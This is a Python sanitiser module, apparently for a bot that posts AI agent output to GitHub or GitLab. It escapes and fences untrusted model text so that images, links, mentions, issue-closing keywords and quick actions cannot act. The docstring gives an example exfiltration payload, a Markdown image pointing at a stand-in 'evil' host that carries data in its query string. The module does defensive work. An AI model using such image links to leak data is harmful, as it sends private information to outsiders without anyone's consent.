"""Text gitbot did not write, made safe to post as GitHub Markdown (PR body, comments, job summary).

The model's words, file names the agent chose, issue titles and error messages are data. Rendered as
Markdown they could show an image (`![x](https://evil/?d=…)`: GitHub's image proxy fetches it as soon
as someone views the page, an exfiltration channel even when the agent had no network), a link, raw
HTML, ping people (`@someone`) or close other issues on merge (`fixes #12`, GitLab's `implements #12`). So:

- `fenced` puts multi-line text in a fenced code block whose backtick fence is longer than any run of
  backticks in the text: nothing inside renders (no image, link, autolink, HTML or mention);
- `code_span` does the same for one line, `md_cell` escapes one line for prose and table cells;
- `neutralise` breaks mentions and closing keywords with a zero-width space, everywhere, so that even
  a renderer that looked inside code would find neither.
"""

from __future__ import annotations

import re

ZWSP = "\u200b"
# The closing keywords of GitHub and of GitLab's default pattern (which adds closing, fixing, resolving
# and implement(s|ed|ing)), when a reference follows them (an issue number, group/project#N, GH-N, a
# Jira-style KEY-N or an issue URL; GitLab allows "issue(s)" in between), up to a few characters of
# punctuation or markup apart.
CLOSING_KEYWORD = re.compile(
    r"\b(clos(?:e[sd]?|ing)|fix(?:e[sd]|ing)?|resolv(?:e[sd]?|ing)|implement(?:s|ed|ing)?)\b"
    r"(?=[\s:*_`'\"(\[]{0,12}(?:issues?\s+)?"
    r"(?:#|gh-\d|(?-i:[A-Z][A-Z0-9_]+-\d)|(?:[\w.-]+/)*[\w.-]+#|https?:|www\.))",
    re.IGNORECASE,
)
ISSUE_REFERENCE = re.compile(r"#(?=\d)")
# GitLab runs a quick action (`/merge`, `/approve`, `/close` …) from any line of a note or description
# that starts with a slash, as the user who posted it (gitbot), after deleting every carriage return;
# its exceptions for code blocks are heuristics, not Markdown's. Such a line gets an invisible first
# character (before the carriage returns GitLab deletes).
QUICK_ACTION_LINE = re.compile(r"^(?=\r*/)", re.MULTILINE)
AUTOLINK = re.compile(r"(?i)(?<=[a-z])(:)(?=//)|\b(www)(?=\.)")


def neutralise(text: str) -> str:
    """No mention pings anyone, no closing keyword closes anything (the text still reads the same)."""
    text = CLOSING_KEYWORD.sub(lambda m: m.group(0)[0] + ZWSP + m.group(0)[1:], text)
    return text.replace("@", "@" + ZWSP)


def no_quick_actions(text: str) -> str:
    """No line of `text` starts with a slash (it reads the same)."""
    return QUICK_ACTION_LINE.sub(ZWSP, text)


def fenced(text: str, info: str = "text") -> str:
    """A fenced code block holding `text` verbatim (apart from `neutralise`): nothing in it renders."""
    text = neutralise(text.replace("\r\n", "\n").replace("\r", "\n")).strip("\n")
    # Inside a code block `<!--` renders as itself; broken, it can never pass for one of gitbot's markers
    # (the pull request's ledger, a reply's marker) to code that reads the raw Markdown.
    text = text.replace("<!--", "<!" + ZWSP + "--")
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


def code_span(text: str) -> str:
    """One line as inline code: a backtick run longer than any inside, so the text cannot close it."""
    text = neutralise(text.replace("\r", " ").replace("\n", " "))
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {text} {fence}" if longest or not text.strip() else f"{fence}{text}{fence}"


def code_cell(text: str) -> str:
    """`code_span` for a table cell: a pipe would end the cell even inside code, so it is escaped."""
    return code_span(text).replace("|", "\\|")


def md_cell(text: str) -> str:
    """One line of prose or a table cell: no HTML, image, link, autolink, code span, mention or reference."""
    text = neutralise(text.replace("\r", " ").replace("\n", " "))
    text = text.replace("\\", "\\\\")
    for char in "|[]!`":
        text = text.replace(char, "\\" + char)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = AUTOLINK.sub(lambda m: (m.group(1) or m.group(2)) + ZWSP, text)
    return ISSUE_REFERENCE.sub("#" + ZWSP, text)


FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})")


def prose(text: str) -> str:
    """The model's words as readable Markdown that cannot act: its code blocks stay code blocks
    (`fenced`), every other line goes through `md_cell` (no link, image, HTML, mention or reference)."""
    out: list[str] = []
    code: list[str] | None = None
    fence = ""
    for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        opening = FENCE_LINE.match(line)
        if code is None:
            if opening:
                code, fence = [], opening.group(1)
            else:
                out.append(md_cell(line) if line.strip() else "")
        elif (
            opening
            and opening.group(1)[0] == fence[0]
            and len(opening.group(1)) >= len(fence)
            and (not line.strip().strip(fence[0]))
        ):
            out.append(fenced("\n".join(code)))
            code = None
        else:
            code.append(line)
    if code is not None:
        out.append(fenced("\n".join(code)))
    return "\n".join(out).strip()
